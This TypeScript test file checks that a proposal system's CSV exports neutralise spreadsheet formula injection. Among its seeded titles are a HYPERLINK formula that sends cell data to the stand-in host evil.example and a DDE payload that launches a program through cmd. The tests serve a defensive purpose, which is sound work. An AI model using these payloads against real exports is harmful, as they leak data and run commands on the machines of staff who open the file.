import { startApi, type TestApi } from '../support/api.js';
import { createDirectory, type Directory } from '../support/directory.js';

/**
 * Issue 11, item 3: what a proposer types goes into the CSV exports that the staff open in Excel or
 * WPS; a cell that would run as a formula is written as text.
 */
describe('security: CSV exports', () => {
  let api: TestApi;
  let dir: Directory;
  const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")';

  beforeAll(async () => {
    api = await startApi('secexports', '2024-03-26T10:00:00+08:00');
    dir = await createDirectory(api);
    for (const title of [FORMULA, '+cmd|" /C calc"!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', '正常的标题']) {
      const res = await api.as(dir.tokens.proposer).post('/api/v1/proposals', { sessionId: dir.sessionId, title, content: '内容'.repeat(20), leadProposerId: dir.proposerId });
      expect(res.status).toBe(201);
    }
  }, 60_000);
  afterAll(() => api?.close(), 60_000);

  it('neutralises every cell of the register that begins with = + - @, tab or CR', async () => {
    const res = await api.as(dir.tokens.supervisor).get(`/api/v1/exports/register?sessionId=${dir.sessionId}&format=csv`);
    expect(res.status).toBe(200);
    const cells = res.text.replace(/^\ufeff/, '').split(/[,\n]/).map((c) => c.replace(/^"|"$/g, '').replace(/""/g, '"'));
    expect(cells.some((c) => c.includes('HYPERLINK'))).toBe(true);
    for (const c of cells) expect(c).not.toMatch(/^[=+\-@\t\r]/);
    expect(res.text).toContain(`'=HYPERLINK(`);
    expect(res.text).toContain('正常的标题');
  });

  it('neutralises the unit statistics too, and shows rates as percentages', async () => {
    const res = await api.as(dir.tokens.supervisor).get(`/api/v1/exports/unit-stats?sessionId=${dir.sessionId}&format=csv`);
    expect(res.status).toBe(200);
    for (const line of res.text.replace(/^\ufeff/, '').trim().split('\n').slice(1)) {
      for (const c of line.split(',')) expect(c.replace(/^"/, '')).not.toMatch(/^[=+@\t\r]/);
    }
    expect(res.text).not.toMatch(/,0\.\d+(,|\n|$)/);
  });
});
